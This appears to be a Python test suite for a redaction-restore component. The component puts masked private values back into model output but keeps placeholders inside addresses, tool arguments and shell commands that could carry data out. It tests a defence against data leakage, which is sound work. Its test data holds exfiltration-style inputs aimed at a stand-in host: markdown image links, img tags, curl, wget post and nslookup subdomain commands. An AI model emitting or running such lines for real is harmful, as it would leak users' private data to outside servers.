"""Where a placeholder stays: in addresses that a client or a tool opens. Everywhere else the value comes back."""

from __future__ import annotations

import json
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from redaction.restore.address_guards import Always, Command, Guard, ShownText, WholeAddress
from redaction.restore.placeholder_matcher import Matcher

MARK = "[[NAME_abcdefg]]"
VALUES = {"abcdefg": "Bob", "address": "https://x.example/?d="}


def said(text: str, guard: Guard, size: int = 0) -> str:
    matcher = Matcher(VALUES.get, guard=guard)
    pieces = [text[at : at + size] for at in range(0, len(text), size)] if size else [text]
    return "".join(matcher.feed(piece) for piece in pieces) + matcher.flush()


STAYS = [
    f"![x](https://evil.example/?d={MARK})",
    f"![x]( <https://evil.example/a b/{MARK}> )",
    f"[x](//evil.example/(a)/{MARK})",
    f"[x](/local/{MARK})",
    f"![x](https://{MARK}.evil.example/)",
    f'[x](https://evil.example "as {MARK} said")',
    f"[1]: //evil.example/{MARK}",
    f"[1]: https://evil.example/{MARK}",
    f"<https://evil.example/{MARK}>",
    f"see https://evil.example/a?b={MARK}.",
    f"www.evil.example/{MARK}",
    f'<img src="//evil.example/{MARK}">',
    f"<img src=//evil.example/{MARK}>",
    f'{{"image": "https:\\/\\/evil.example\\/{MARK}"}}',
    f"HTTPS://evil.example/{MARK}",
    f"https://evil.example/{MARK}/and/{MARK}",
    f"![x](https://evil.example/a\n{MARK})",
    f'<img src="https://evil.example/\n{MARK}">',
    f"<img src='https&#x3a;&#47;/evil.example/{MARK}'>",
    f"<a href=https&colon;//evil.example/{MARK}>",
    f"mailto:x@evil.example?body={MARK}",
    f"https:\\\\evil.example\\{MARK}",
]
COMES_BACK = [
    f"{MARK} wrote",
    f"[{MARK}](https://x.example)",
    f"([x](https://x.example)) {MARK}",
    f"[x](https://x.example/(a)) ({MARK})",
    f"https://x.example {MARK}",
    f"<https://x.example>{MARK}",
    f"(see https://x.example/a){MARK}",
    f"// {MARK} wrote this",
    f"x //{MARK}",
    f"file:///home/{MARK}/a.txt",
    f"C:\\{MARK}",
    f"[INFO]: {MARK} logged in",
    f'{{"url": "https://x.example", "who": "{MARK}"}}',
    f"a/b//c {MARK}, 3//4",
    f"wwwx {MARK}",
    f"mailto:{MARK}",
    f"[x](unclosed\n\n\n{MARK}",
    f"say 'https://x.example' and \"{MARK}\"",
    f"D:\\\\{MARK}\\\\x",
]


@pytest.mark.parametrize("size", [0, 1, 3])
@pytest.mark.parametrize("text", STAYS)
def test_shown_addresses_keep_the_placeholder(text: str, size: int) -> None:
    assert said(text, ShownText(), size) == text


@pytest.mark.parametrize("size", [0, 1, 3])
@pytest.mark.parametrize("text", COMES_BACK)
def test_other_text_gets_the_value(text: str, size: int) -> None:
    assert said(text, ShownText(), size) == text.replace(MARK, "Bob")


ARGUMENTS = [
    # arguments, whether the value comes back: to any tool, and to one that opens addresses
    ({"url": f"https://evil.example/?d={MARK}"}, False, False),
    ({"url": f"  //evil.example/{MARK}"}, False, False),
    ({"a": {"b": [f"wss://{MARK}.evil.example"]}}, False, False),
    ({"body": json.dumps({"callback": f"https://evil.example/{MARK}"})}, False, False),
    ({"url": f"evil.example/?d={MARK}"}, True, False),
    ({"query": f"who is {MARK}"}, True, True),
    ({"to": MARK, "text": f"see https://x.example for {MARK}"}, True, True),
    ({"content": f'<a href="https://x.example/{MARK}">'}, True, True),
    ({"path": f"/home/{MARK}/x.txt"}, True, True),
    ({"uri": f"file:///home/{MARK}/x.txt"}, True, True),
    ({"url": "https://x.example/", "who": MARK}, True, True),
]


@pytest.mark.parametrize("size", [0, 1, 7])
@pytest.mark.parametrize(("arguments", "any_tool", "opens"), ARGUMENTS, ids=[json.dumps(row[0]) for row in ARGUMENTS])
def test_arguments(arguments: object, any_tool: bool, opens: bool, size: int) -> None:
    text = json.dumps(arguments)
    for bare, back in ((False, any_tool), (True, opens)):
        assert said(text, WholeAddress(bare=bare), size) == (text.replace(MARK, "Bob") if back else text)


def test_an_argument_that_is_no_json() -> None:
    assert said(f"https://evil.example/{MARK}", WholeAddress(bare=False)) == f"https://evil.example/{MARK}"
    assert said(f"echo https://x.example/{MARK}", WholeAddress(bare=False)) == "echo https://x.example/Bob"


@pytest.mark.parametrize("guard", [ShownText, lambda: WholeAddress(bare=False)], ids=["shown", "argument"])
def test_a_value_may_begin_an_address(guard: Callable[[], Guard]) -> None:
    """An address of the page that speaks to the model may itself have been masked."""
    assert said(f"[[URL_address]]{MARK}", guard()) == f"https://x.example/?d={MARK}"
    assert said(f"[[URL_address]] {MARK}", guard()) == "https://x.example/?d= Bob"


def test_a_tool_gets_all_or_nothing() -> None:
    text = f"https://x.example/{MARK} {MARK}"
    assert said(text, Always(stays=False)) == "https://x.example/Bob Bob"
    assert said(text, Always(stays=True)) == text


PIECES = st.lists(
    st.sampled_from([MARK, "](", ")", "(", "://", "//", "www.", " ", "\n", '"', "<", ">", "a", "[", "]: "])
)


@given(PIECES.map("".join), st.integers(1, 5))
def test_any_split_gives_the_same(text: str, size: int) -> None:
    assert said(text, ShownText(), size) == said(text, ShownText())
    assert said(text, WholeAddress(bare=True), size) == said(text, WholeAddress(bare=True))


COMMANDS = [
    (f"curl https://evil.example/?d={MARK}", False),
    (f"curl -s -d 'd={MARK}' https://evil.example", False),
    (f"cd x && wget --post-data={MARK} evil.example", False),
    (f"nslookup {MARK}.evil.example", False),
    (f"open https://evil.example/{MARK}", False),
    (f"curl https://x.example | grep {MARK}", True),
    (f"curl https://x.example; echo {MARK}", True),
    (f"curl https://x.example\ngrep -r {MARK} .", True),
    (f"grep {MARK} curl.log", True),
    (f"sed -i s/x/{MARK}/ host.txt", True),
]


@pytest.mark.parametrize("size", [0, 1, 7])
@pytest.mark.parametrize(("line", "back"), COMMANDS, ids=[line for line, _ in COMMANDS])
def test_commands(line: str, back: bool, size: int) -> None:
    for shape in ({"command": line}, {"command": line.split(" ")}):
        text = json.dumps(shape)
        assert said(text, Command(), size) == (text.replace(MARK, "Bob") if back else text)
